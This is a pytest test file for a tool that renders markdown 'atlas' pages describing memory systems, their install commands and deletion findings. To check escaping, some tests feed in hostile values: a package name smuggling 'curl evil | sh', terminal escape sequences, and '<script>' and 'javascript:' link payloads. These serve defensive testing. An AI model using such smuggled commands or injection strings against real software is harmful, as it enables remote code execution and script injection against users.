"""The pages of the atlas: made from what is recorded, up to date, and with everything that an entry says."""

import re
import shlex
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from forgeteval import load_suite
from forgeteval.errors import UserError
from forgeteval.run.trials import Trial, Verdict
from lethe.cli import atlas as commands
from lethe.cli.atlas import PAGES
from lethe.config.atlas import (
    SUITES,
    Calls,
    Change,
    Entry,
    Recorded,
    Review,
    Sqlite,
    entry_folders,
    read_entry,
    read_record,
)
from lethe.config.reading import read_config
from lethe.report.atlas import atlas_page
from lethe.stored.cases import suite_rows
from lethe.study.steps.score_atlas import STEP
from lethe.trust import atlas as trust
from lethe.trust.atlas import Asked, install_line, page, page_fingerprint
from tests.support.atlas import SHELF
from tests.support.paths import ROOT

FOLDERS = {name: folder for name, folder in entry_folders(ROOT / "atlas").items() if read_record(folder)}
CASES = list(load_suite("adversarial"))[:20]
INSTALL = "pip install plugmem==1"
FOUND = Recorded("2026-11-27", {"platform": "Linux", "python": "3.11"}, ["plugmem==1"], "c", 10, {}, {})


def made(verdict: Verdict = "fail", error: str | None = None, found: Recorded = FOUND, **told: Any) -> str:
    """The page of a system that recalls whatever it was told, and nothing of it where asked for by its own text."""
    trials = []
    for case in CASES:
        there = [state.state != "stays" for state in case.states or ()]
        trial = Trial(case.suite, "plugmem", "", 0, case.case_id, verdict, recalled=list(case.facts()), present=there)
        trials.append({**trial.to_row(), "error": error})
    key = {"system": "plugmem", "model": "", "rows": 10, "case_id": "c"}
    records = [
        {**key, "level": "before", "place": "text", "outcome": "found", "detail": []},
        {**key, "level": "A3", "place": "text", "outcome": "found", "detail": ["store.db (free page): UTF-8"]},
        {**key, "level": "A3", "place": "claim", "outcome": "says gone", "detail": ["files", "1 | row erased"]},
        {**key, "level": "A4", "place": "claim", "outcome": "error", "detail": ["no proof"]},
    ]
    rows: dict[str, Any] = {"trials": trials, "events": [], "answers": [], "records": records, "scorer": "substring"}
    counted = STEP.compute(cases=suite_rows(CASES), **rows)
    entry = read_entry(ROOT / "atlas/plugmem").model_copy(update=told)
    return atlas_page("plugmem", entry, found, {"adversarial": CASES}, trials, records, counted, INSTALL, "f" * 16)


@pytest.mark.parametrize("name", FOLDERS)
def test_the_page_of_each_system_is_of_its_entry_and_record(name: str) -> None:
    text = (ROOT / PAGES / f"{name}.md").read_text(encoding="utf-8")
    assert page_fingerprint(FOLDERS[name]) in text, f"run `forgeteval atlas page {name}`"


def test_a_page_is_made_again_as_it_is() -> None:
    name = min(FOLDERS, key=lambda each: (FOLDERS[each] / "trials.parquet").stat().st_size)
    assert page(FOLDERS[name], Asked.of(read_config(ROOT, []))) == (ROOT / PAGES / f"{name}.md").read_text(
        encoding="utf-8"
    )


def test_a_page_has_the_first_case_of_each_kind_and_what_is_left() -> None:
    text = made()
    first = next(case for case in CASES if any(state.state == "replaced" for state in case.states or ()))
    assert f"### Stale: {first.case_id}" in text and f"### Collateral: {CASES[0].case_id}" in text
    assert first.final_query in text and all(fact in text for fact in first.setup_facts)
    assert "| its deletion | text | store.db (free page): UTF-8 | 1 |" in text
    assert "`1 | row erased`: **false**, in 1 cases" in text
    assert "it says, as it broke, `no proof`: **unchecked**" in text and "Nobody has tried yet." in text


def test_a_page_says_by_which_calls_and_how_it_is_installed() -> None:
    text = made(calls=Calls(supersede="revise(id, text)", release="forget(id)"))
    assert "- supersede: `revise(id, text)`\n- release: `forget(id)`\n- purge: not served\n" in text
    assert f"\n{INSTALL}  " in text and "*token*: that word in a full-text index" in text


def test_a_page_says_which_sqlite_it_was_or_that_this_is_not_known() -> None:
    assert (
        "Which SQLite wrote its files, and whether that overwrites what it deletes, the record does not say." in made()
    )
    known = {"version": "3.40.1", "library": "Python's", "secure_delete": "on", "day": date(2026, 11, 28)}
    text = made(sqlite=Sqlite.model_validate(known))
    assert "written by SQLite 3.40.1 (Python's). " in text and "on 2026-11-28." in text and "does not say" not in text


LOOSE = "pip install Shelf==1.0 Py_SQL==2.1"


@pytest.mark.parametrize(
    ("asked", "packages", "line"),
    [
        ("-r ../../envs/worker.in\nshelf[crypto]==1.0\n", ["shelf==1.0"], "pip install 'shelf[crypto]==1.0'"),
        ("shelf==1.0\n# It imports this.\nsql[aio]\n", ["sql==2.1"], "pip install shelf==1.0 'sql[aio]==2.1'"),
        ("Shelf>=1  # of its maker\nPy_SQL; python_version=='3.11'\n", ["shelf==1.0", "py-sql==2.1"], LOOSE),
    ],
)
def test_what_is_installed_has_the_versions_of_the_record(
    tmp_path: Path, asked: str, packages: list[str], line: str
) -> None:
    (tmp_path / "environment.in").write_text(asked, encoding="utf-8")
    assert install_line(tmp_path, Entry.model_validate(SHELF), replace(FOUND, packages=packages)) == line


@pytest.mark.parametrize(
    ("asked", "said"),
    [
        (b"shelf\xff==1.0\n", "environment.in: not UTF-8"),
        (b"--pre\n", "'--pre' is no package of record.json"),
        (b"sql\n", "'sql' is no package of record.json"),
    ],
)
def test_what_is_no_package_of_the_record_is_named(tmp_path: Path, asked: bytes, said: str) -> None:
    (tmp_path / "environment.in").write_bytes(asked)
    with pytest.raises(UserError, match=re.escape(said)):
        install_line(tmp_path, Entry.model_validate(SHELF), FOUND)


def test_nothing_that_acts_on_a_terminal_is_on_a_page() -> None:
    hostile = "MIT\x1bc\x9b2J"
    text = made(
        licence=hostile,
        report=hostile,
        found=replace(FOUND, machine={"platform": hostile, "python": "3"}),
        error=hostile,
    )
    assert text.count("\\x1bc\\x9b2J") >= 3 and not {"\x1b", "\x9b"} & {*text}


def test_a_node_package_is_installed_by_npm(tmp_path: Path) -> None:
    (tmp_path / "node").mkdir()
    (tmp_path / "node/package-lock.json").write_text("{}", encoding="utf-8")
    assert install_line(tmp_path, Entry.model_validate(SHELF), FOUND) == "npm install shelf@1.0"
    signs = Entry.model_validate({**SHELF, "package": "x; curl evil | sh #"})
    assert shlex.split(install_line(tmp_path, signs, FOUND)) == ["npm", "install", "x; curl evil | sh #@1.0"]


def test_what_is_asked_is_made_once_for_all_pages(monkeypatch: pytest.MonkeyPatch) -> None:
    made_of: list[str] = []
    monkeypatch.setattr(trust, "build_suite", lambda suite, options: made_of.append(suite) or CASES)
    monkeypatch.setattr(trust, "long_events", lambda *asked: [])
    monkeypatch.setattr(trust, "page", lambda folder, asked: folder.name)
    monkeypatch.setattr(commands, "write_text", lambda place, text: None)
    names = list(FOLDERS)[:3]
    done = CliRunner().invoke(commands.atlas, ["page", *names, "--root", str(ROOT)])
    assert done.exit_code == 0 and sorted(made_of) == sorted(SUITES)


def test_a_page_has_all_that_an_entry_says() -> None:
    review = {name: f"{name} was read." for name in ("native_forget", "waits", "stable_ids", "floor", "dedup")}
    text = made(
        home="https://example.org/shelf",
        changes=[Change(what="no telemetry", why="it has no network")],
        reviewed=Review.model_validate({"by": "A. Reader", "day": date(2026, 11, 27), **review}),
        findings=["By its own steps the word was there."],
        remedy="VACUUM",
        reply="It is mended in 1.1.",
        report="What: a word stays.",
    )
    for said in ("https://example.org/shelf", "no telemetry: it has no network.", "A. Reader", *review.values()):
        assert said in text
    for said in ("By its own steps the word was there.", "VACUUM", "It is mended in 1.1.", "What: a word stays."):
        assert said in text


@pytest.mark.parametrize("key", ["promise", "remedy", "reply", "licence", "package"])
def test_text_of_an_entry_is_no_html_and_no_link(key: str) -> None:
    hostile: dict[str, Any] = {key: "\\`<script>` <script> [here](javascript:alert(1))\n\n# big &lt; ``a[0] < `b` ``"}
    said = r"\\`<script>` &lt;script&gt; \[here\](javascript:alert(1)) # big &amp;lt; ``a[0] < `b` ``"
    assert said in made(**hostile)


def test_nothing_in_a_report_ends_its_block() -> None:
    text = made(report="What:\n\n````\n<script>\n````\n")
    assert "\n`````markdown\nWhat:\n\n````\n<script>\n````\n`````\n" in text


def test_a_page_says_what_varies_between_runs() -> None:
    assert "It was run" not in made()
    assert "It was run 3 times. Each verdict, answer and outcome was the same" in made(found=replace(FOUND, runs=3))
    text = made(found=replace(FOUND, runs=3, varying=["adversarial plugmem 0 one", "adversarial plugmem 0 two"]))
    assert "It was run 3 times. Of its verdicts, answers and outcomes 2 came out otherwise" in text


def test_a_page_says_what_broke() -> None:
    text = made("error", error="it\nbroke")
    assert f"Error on adversarial, {len(CASES)}: `it broke`" in text and "There is none." in text
